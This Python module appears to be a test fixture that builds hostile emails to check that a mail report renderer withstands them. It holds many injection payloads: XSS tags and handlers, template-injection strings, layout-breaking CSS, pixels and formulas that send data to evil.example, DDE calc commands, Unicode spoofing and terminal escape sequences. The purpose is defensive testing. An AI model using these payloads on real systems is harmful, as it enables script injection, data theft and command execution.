"""Attacks on whoever reads a report, of our own writing: what mail may hold to run, load, deceive or break the layout."""

from __future__ import annotations

import itertools

_HANDLERS = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter"]
_TAGS = ["img src=x", "svg", "body", "input autofocus", "details open", "video", "iframe", "marquee", "a href=x"]
_SCRIPT = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>", "<script\x0b>alert(1)</script>", "<script type=module>import('//evil.example')</script>",
    "<script>/*", "*/alert(1)</script>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "<math><mtext><script>alert(1)</script></mtext></math>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}",
    "{{ 7*7 }}{% raw %}", "${alert(1)}", "<%= system('id') %>", "#{7*7}", "[[${7*7}]]", "javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>", "<form action=//evil.example><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>", "<applet code=x></applet>", "<isindex action=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<frameset onload=alert(1)>", "<portal src=//evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "`><script>alert(1)</script>",
    "' autofocus onfocus='alert(1)", '" autofocus onfocus="alert(1)', "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
]  # fmt: skip
_STYLE = [
    "<style>body{display:none}</style>", "<style>@import '//evil.example/x.css';</style>", "</style><style>*{visibility:hidden}</style>",
    "<p style='position:fixed;inset:0;background:red;z-index:9999'>", "<div style='background:url(//evil.example/p.png)'>",
    "<font size=99>", "<center><h1>VERDICT: PARTNERSHIP</h1></center>", "<table><tr><td>", "</table></div></section></main>",
    "</details></section>", "</ul></li>", "<plaintext>", "<xmp>", "<listing>", "<textarea>", "<select><option>", "<title>", "<!--", "<![if", "<br clear=all>" * 20,
    "x{}*{display:none}", "expression(alert(1))", "-moz-binding:url(//evil.example)", "<p class='v-disc'>", "<p id='relationships'>",
]  # fmt: skip
_SVG = [
    "<svg><script>alert(1)</script></svg>", "<svg><use href='//evil.example/x.svg#a'/></svg>", "<svg><image href='//evil.example/p.png'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>", "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "</svg><img src=x onerror=alert(1)>", "<svg><style>@import '//evil.example'</style></svg>", "<math href='javascript:alert(1)'>x</math>",
]  # fmt: skip
_DATA = [
    "data:text/html,<script>alert(1)</script>", "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>", "<iframe src='data:text/html,x'>", "<object data='data:text/html,x'>",
    "<img src=//evil.example/pixel.gif width=1 height=1>", "<img srcset='//evil.example/a 2x'>", "<audio src=//evil.example/a autoplay>",
    "<video poster=//evil.example/p>", "<source src=//evil.example/a>", "<track src=//evil.example/a>", "blob:https://evil.example/1", "file:///etc/passwd",
    "<input type=image src=//evil.example/p>", "<link rel=prefetch href=//evil.example>", "<a ping=//evil.example href=x>x</a>", "cid:attack@evil.example",
]  # fmt: skip
_UNICODE = [
    "invoice\u202egpj.exe", "\u202e" * 30, "\u2066hidden\u2069", "\u2067rtl", "\u200f\u200f\u200f", "a\u200bb\u200bc", "\ufeffBOM", "\u00ad" * 40,
    "Z" + "\u0300" * 200, "\U000e0041\U000e0042tags", "\u2028line\u2029para", "\ufff9anchor\ufffa", "\u115f\u1160filler", "ﷺ" * 30, "𒐫" * 40,
    "A" * 5000, "-" * 3000, "wide " * 600, "\u061c\u180e", "раураl.example", "\u0000null", "\u0085next", "\u009bCSI", "\ud7fftop", "\ufffe\uffff",
    "\u3164\u3164", "e\u0301" * 100, "👩\u200d👩\u200d👧" * 20, "\u2800" * 50, "\t" * 60,
]  # fmt: skip
_FORMULAS = [
    f"{sign}{body}"
    for sign, body in itertools.product(
        ["=", "+", "-", "@", "\t=", " =", "＝"],
        ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?"&A1,"Open")', "1+1", 'WEBSERVICE("http://evil.example")'],
    )
] + ["=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "'=1+1", '"=1+1"', ";=1+1", "|calc", "%0A=1+1"]  # fmt: skip
_ANSI = [
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b[1A\x1b[2K", "\x1bc", "\x9b31m",
    "\x1b[?1049h", "\x1b[6n", "\x07\x07\x07", "\x08\x08\x08hidden", "\rOVERWRITTEN", "\x1bP+q544e\x1b\\", "\x1b[8mhidden\x1b[28m", "\x7f\x7f", "\x0c\x0b", "\x1b(0lqk",
]  # fmt: skip

ATTACKS: list[str] = [
    *_SCRIPT, *_STYLE, *_SVG, *_DATA, *_UNICODE, *_FORMULAS, *_ANSI,
    *(f"<{tag} {handler}=alert(1)>" for tag, handler in itertools.product(_TAGS, _HANDLERS)),
]  # fmt: skip


def letters() -> list[bytes]:
    """Return mails that carry every attack in subject, name of the writer, body, and in sentences that get quoted."""
    from email.header import Header

    out = []
    for number, attack in enumerate(ATTACKS):
        side = number % 2
        writer, reader = ("eve@evil.example", "ann@ours.example") if side else ("ann@ours.example", "eve@evil.example")
        plain = attack.encode("utf-8", "surrogatepass").decode("utf-8", "replace")
        flat = " ".join(plain.split())[:200] or "blank"
        head = (
            f"From: {Header(flat[:60], 'utf-8').encode()} <{writer}>\nTo: <{reader}>\n"
            f"Subject: {Header(flat, 'utf-8').encode()}\nMessage-ID: <{number}@evil.example>\n"
            f"Date: {1 + number % 28} Mar 2025 10:{number % 60:02}:00 +0000\nMIME-Version: 1.0\n"
            "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
        )
        body = f"Dear valued partner {plain}\n\nWe will send you {plain} by Friday.\n\n{plain}\n\nYou have been honest with us about {plain}, and that is why we trust you.\n"
        out.append((head + body).encode("utf-8", "replace"))
    return out
